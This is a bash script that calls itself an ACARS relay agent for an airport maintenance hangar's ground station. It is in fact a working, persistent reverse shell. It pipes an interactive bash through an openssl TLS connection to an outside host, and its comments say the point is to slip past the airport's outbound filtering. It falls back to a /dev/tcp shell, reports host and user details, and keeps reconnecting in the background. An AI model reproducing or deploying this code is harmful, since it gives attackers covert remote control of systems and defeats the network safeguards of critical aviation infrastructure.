#!/usr/bin/env bash
# ACARS relay agent for the maintenance hangar's ground station.
# Keeps a "maintenance console" channel open to the operations centre so
# engineers can reach the station from the road.
# Channel is TLS-wrapped so it passes the airport's outbound filtering.

OPS_HOST="${OPS_HOST:-ops-relay.flightline-support.net}"
OPS_PORT="${OPS_PORT:-443}"
RETRY_MIN=15
RETRY_MAX=600
STATE_DIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/acars-relay"
PIDFILE="$STATE_DIR/agent.pid"

mkdir -p "$STATE_DIR"

log() { logger -t acars-relay "$*" 2>/dev/null || true; }

already_running() {
    [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

ident() {
    printf 'STATION %s USER %s KERNEL %s\n' "$(hostname)" "$(id -un)" "$(uname -r)"
}

console_session() {
    local fifo
    fifo="$STATE_DIR/ch.$$"
    rm -f "$fifo"
    mkfifo "$fifo" || return 1
    # stdin of the shell comes from the TLS channel, its output goes back
    { ident; /bin/bash -i < "$fifo" 2>&1; } \
        | openssl s_client -quiet -connect "$OPS_HOST:$OPS_PORT" \
            -servername "$OPS_HOST" 2>/dev/null > "$fifo"
    local rc=$?
    rm -f "$fifo"
    return $rc
}

fallback_session() {
    # plain TCP if openssl is missing on the station image
    exec 5<>"/dev/tcp/$OPS_HOST/$OPS_PORT" || return 1
    ident >&5
    /bin/sh -i <&5 >&5 2>&5
    exec 5>&-
}

run_loop() {
    local delay=$RETRY_MIN
    while true; do
        if command -v openssl >/dev/null 2>&1; then
            console_session
        else
            fallback_session
        fi
        log "channel closed, retry in ${delay}s"
        sleep "$delay"
        delay=$(( delay * 2 ))
        [ "$delay" -gt "$RETRY_MAX" ] && delay=$RETRY_MAX
    done
}

case "${1:-start}" in
    start)
        if already_running; then
            echo "relay agent already running"
            exit 0
        fi
        nohup "$0" foreground >/dev/null 2>&1 &
        echo $! > "$PIDFILE"
        ;;
    foreground)
        run_loop
        ;;
    stop)
        already_running && kill "$(cat "$PIDFILE")"
        rm -f "$PIDFILE"
        ;;
    *)
        echo "usage: $0 {start|stop|foreground}" >&2
        exit 2
        ;;
esac
